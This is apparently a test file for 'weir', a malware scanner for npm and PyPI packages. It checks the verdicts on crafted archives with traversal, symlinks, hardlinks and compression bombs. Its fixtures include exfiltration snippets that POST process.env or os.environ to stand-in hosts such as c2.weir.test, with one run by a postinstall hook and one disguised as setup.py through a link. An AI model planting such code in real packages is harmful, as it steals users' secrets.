import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { type AnalysisResult, analysisResultSchema } from '@weir/model';
import { tarball } from '@weir/testkit/archive';
import { describe, expect, test } from 'vitest';
import { analyzeFile } from './analyze-file.ts';
import { DEFAULT_ANALYSIS_BUDGET } from './limits.ts';
import { createMemoryView } from './memory-view.ts';
import { createProcessorClock } from './processor-time.ts';
import { scanUnread } from './unread-scan.ts';

const MANIFEST = '{"name":"x","version":"1.0.0","main":"a.js"}';
const HIDDEN = `fetch('https://exfil.weir.test/collect');`;

/** As in a child of the pool: what is found must not depend on what else the machine does. */
const now = createProcessorClock();

async function analyze(bytes: Buffer): Promise<AnalysisResult> {
  const directory = await mkdtemp(join(tmpdir(), 'weir-analysis-test-'));
  try {
    const path = join(directory, 'x.tgz');
    await writeFile(path, bytes);
    const result = await analyzeFile(
      { path, filename: 'x.tgz', ecosystem: 'npm', context: null },
      { rulesetVersion: 'test', now },
    );
    expect(analysisResultSchema.safeParse(result).error).toBeUndefined();
    return result;
  } finally {
    await rm(directory, { recursive: true, force: true });
  }
}

function rulesOf(result: AnalysisResult): string[] {
  return [...new Set(result.findings.map(({ rule }) => rule))].toSorted();
}

function honest(): ReturnType<typeof tarball> {
  return tarball().file('package/package.json', MANIFEST).file('package/a.js', 'module.exports = 1;');
}

describe('what is wrong with a container', () => {
  test('is nothing in an honest one', async () => {
    const result = await analyze(honest().build());

    expect([result.judgement.verdict, result.findings, result.skipped]).toEqual(['benign', [], []]);
  });

  test.each([
    ['traversal', honest().traversal()],
    ['duplicate-path', honest().file('package/a.js', 'other')],
    ['case-collision', honest().file('package/A.js', 'other')],
  ])('is a finding: %s', async (code, builder) => {
    const result = await analyze(builder.build());

    expect(rulesOf(result)).toEqual([`analysis/archive-${code}`]);
    expect([result.judgement.complete, result.skipped]).toEqual([true, []]);
  });

  test.each([
    ['link', honest().symlink('package/l', '/etc/passwd'), 'package/l'],
    ['link', honest().symlink('package/setup.py', 'a.js'), 'package/setup.py'],
    ['link', honest().symlink('package/README.rst', '../package.json'), 'package/README.rst'],
    ['link', honest().symlink('package/pyproject.toml', 'a.js'), 'package/pyproject.toml'],
    ['link', honest().symlink('package/bin/run', '../a.js'), 'package/bin/run'],
    ['device', honest().device('package/d'), 'package/d'],
  ])('is a finding, and what it stands for is unread: %s', async (code, builder, file) => {
    const result = await analyze(builder.build());

    expect(rulesOf(result)).toEqual([`analysis/archive-${code}`]);
    expect(result.judgement.verdict).toBe('inconclusive');
    expect(result.skipped).toMatchObject([{ file }]);
  });

  test('is a finding, and nothing is unread, where a text links to what is read as itself', async () => {
    const builder = honest()
      .file('package/docs/index.rst', 'words')
      .symlink('package/README.rst', 'docs/index.rst');

    const result = await analyze(builder.build());

    expect(rulesOf(result)).toEqual(['analysis/archive-link']);
    expect([result.judgement.verdict, result.judgement.complete, result.skipped]).toEqual([
      'benign',
      true,
      [],
    ]);
  });

  test.each([
    ['a text', 'benign', 'logs/z.txt', 'first.txt'],
    ['another file of the machine', 'inconclusive', 'logs/z.txt', '/etc/hosts'],
    ['a text, by a name that is run', 'inconclusive', 'logs/z.js', 'first.txt'],
  ])(
    'of so many links that not all are listed, when the last one leads to %s',
    async (_to, verdict, name, to) => {
      const builder = honest().file('package/logs/first.txt', 'words');
      for (let at = 0; at < 300; at++) builder.symlink(`package/logs/${at}.txt`, 'first.txt');

      const result = await analyze(builder.symlink(`package/${name}`, to).build());

      expect(result.judgement.verdict).toBe(verdict);
    },
  );

  test('leaves what lies under a path that is too long to the pass over what is unread', async () => {
    const path = `${'a/'.repeat(600)}i.js`;
    const manifest = JSON.stringify({
      name: 'x',
      version: '1.0.0',
      scripts: { postinstall: `node ${path}` },
    });
    const steal = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });`;
    const packed = tarball().file('package/package.json', manifest).file(`package/${path}`, steal);

    const { judgement, findings } = await analyze(packed.build());

    expect(findings[0]).toMatchObject({ rule: 'env-to-network/environment', stage: 'install' });
    expect(judgement).toMatchObject({ verdict: 'malicious', complete: false });
  });

  test('leaves the verdict open where readers disagree or something was left unread', async () => {
    const hidden = tarball().file('package/b.js', HIDDEN).build({ gzip: false });
    const behindEnd = await analyze(honest().raw(Buffer.alloc(1024)).raw(hidden).build());
    const cut = await analyze(honest().file('package/b.js', 'x'.repeat(9000)).build().subarray(0, -60));

    expect(rulesOf(behindEnd)).toEqual([
      'analysis/archive-hidden-member',
      'analysis/archive-trailing-data',
      'analysis/unread-exfil-host',
      'exfil-host/request-catcher',
    ]);
    for (const { judgement } of [behindEnd, cut]) {
      expect([judgement.verdict, judgement.complete]).not.toEqual(['benign', true]);
    }
  });

  test('is listed with what a bomb hides, and looked through', async () => {
    const result = await analyze(
      honest()
        .bomb(2 ** 28)
        .file('package/b.js', HIDDEN)
        .build(),
    );

    expect(rulesOf(result)).toEqual([
      'analysis/archive-budget-ratio',
      'analysis/unread-exfil-host',
      'exfil-host/request-catcher',
    ]);
    expect(result.skipped).toMatchObject([{ file: 'zeros.bin', reason: 'budget-ratio' }, {}]);
    expect(result.findings.flatMap(({ indicators }) => indicators)).toContainEqual({
      type: 'url',
      value: 'https://exfil.weir.test/collect',
    });
    expect(result.judgement.verdict).not.toBe('benign');
  });

  test('is told of a manifest that was left unread', async () => {
    const result = await analyze(
      tarball()
        .bomb(2 ** 28)
        .file('package/package.json', MANIFEST)
        .build(),
    );

    expect(result.judgement.verdict).toBe('inconclusive');
  });
});

describe('the scan of what was left unread', () => {
  test('finds addresses that lie across chunks, and keeps streams apart', async () => {
    const cut = HIDDEN.indexOf('weir');
    const chunk = (offset: number, text: string) => ({
      layer: 'unpacked' as const,
      offset,
      path: null,
      bytes: Buffer.from(text),
    });
    const viewOf = (second: number) => ({
      ...createMemoryView({}),
      linear: () => ({
        complete: false,
        async *[Symbol.asyncIterator]() {
          yield chunk(1, HIDDEN.slice(0, cut));
          yield chunk(second, HIDDEN.slice(cut));
        },
      }),
    });

    const options = { budget: DEFAULT_ANALYSIS_BUDGET.unread, now: () => 0 };
    const whole = await scanUnread(viewOf(1), options);
    const apart = await scanUnread(viewOf(2), options);

    expect([whole.findings.length, whole.complete]).toEqual([1, false]);
    expect(apart.findings).toEqual([]);
  });

  test('tells of at most 20 hosts, whatever a file names', async () => {
    const names = Array.from({ length: 500 }, (_, i) => `https://h${i}.exfil.weir.test/`).join(' ');
    const result = await analyze(Buffer.concat([honest().build(), gzipSync(names)]).subarray(0, -1));

    expect(result.findings.filter(({ rule }) => rule === 'analysis/unread-exfil-host')).toHaveLength(20);
  });
});

describe('a link inside a source distribution', () => {
  const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n`;

  async function analyzeSdist(builder: ReturnType<typeof tarball>): Promise<AnalysisResult> {
    const directory = await mkdtemp(join(tmpdir(), 'weir-analysis-test-'));
    try {
      const filename = 'acme_tool-1.2.0.tar.gz';
      const path = join(directory, filename);
      await writeFile(path, builder.build());
      return await analyzeFile(
        { path, filename, ecosystem: 'pypi', context: null },
        { rulesetVersion: 'test', now: () => performance.now() },
      );
    } finally {
      await rm(directory, { recursive: true, force: true });
    }
  }

  const sdist = (): ReturnType<typeof tarball> =>
    tarball()
      .file('acme_tool-1.2.0/PKG-INFO', 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\n\n')
      .file('acme_tool-1.2.0/acme/__init__.py', 'import json\ndef load(p):\n    return json.load(open(p))\n');

  test('is read as the file that it stands for', async () => {
    const result = await analyzeSdist(
      sdist()
        .file('acme_tool-1.2.0/scripts/make.py', 'print(1)\n')
        .symlink('acme_tool-1.2.0/scripts/make', 'make.py'),
    );

    expect(rulesOf(result)).toContain('analysis/archive-link');
    expect([result.judgement.verdict, result.skipped]).toEqual(['benign', []]);
  });

  test('is read as the file that it is another name of', async () => {
    const result = await analyzeSdist(
      sdist()
        .file('acme_tool-1.2.0/NOTICE', 'To be cited.\n')
        .hardlink('acme_tool-1.2.0/acme/NOTICE', 'acme_tool-1.2.0/NOTICE'),
    );

    expect(rulesOf(result)).toContain('analysis/archive-link');
    expect([result.judgement.verdict, result.skipped]).toEqual(['benign', []]);
  });

  test('gives a payload the part that its other name has', async () => {
    const result = await analyzeSdist(
      sdist()
        .file('acme_tool-1.2.0/docs/notes.txt', STEAL)
        .hardlink('acme_tool-1.2.0/setup.py', 'acme_tool-1.2.0/docs/notes.txt'),
    );

    expect(result.findings[0]?.location).toMatchObject({ file: 'setup.py', line: 2 });
    expect(result.judgement.verdict).toBe('malicious');
  });

  test.each(['docs/notes.txt', 'scripts/../docs/notes.txt'])(
    'gives a payload the part that its own name has: setup.py to %s',
    async (target) => {
      const result = await analyzeSdist(
        sdist().file('acme_tool-1.2.0/docs/notes.txt', STEAL).symlink('acme_tool-1.2.0/setup.py', target),
      );

      expect(rulesOf(result)).toContain('env-to-network/environment');
      expect(result.findings[0]?.location).toMatchObject({ file: 'setup.py', line: 2 });
      expect(result.judgement.verdict).toBe('malicious');
    },
  );

  test.each([
    ['outside', sdist().symlink('acme_tool-1.2.0/setup.py', '../../setup.py')],
    ['to the machine', sdist().symlink('acme_tool-1.2.0/setup.py', '/etc/hosts')],
    ['to a folder', sdist().symlink('acme_tool-1.2.0/other', 'acme')],
    [
      'to a link',
      sdist()
        .file('acme_tool-1.2.0/a.txt', STEAL)
        .symlink('acme_tool-1.2.0/b', 'a.txt')
        .symlink('acme_tool-1.2.0/setup.py', 'b'),
    ],
    [
      'under the path of another file',
      sdist()
        .file('acme_tool-1.2.0/a.txt', STEAL)
        .file('acme_tool-1.2.0/setup.py', '')
        .symlink('acme_tool-1.2.0/setup.py', 'a.txt'),
    ],
    ['out of the archive', sdist().hardlink('acme_tool-1.2.0/setup.py', '../../setup.py')],
    [
      'to what comes behind it',
      sdist()
        .hardlink('acme_tool-1.2.0/setup.py', 'acme_tool-1.2.0/a.txt')
        .file('acme_tool-1.2.0/a.txt', STEAL),
    ],
  ])('is unread where it leads %s', async (_where, builder) => {
    const result = await analyzeSdist(builder);

    expect(result.judgement).toMatchObject({ complete: false });
    expect(result.judgement.verdict).not.toBe('benign');
  });
});
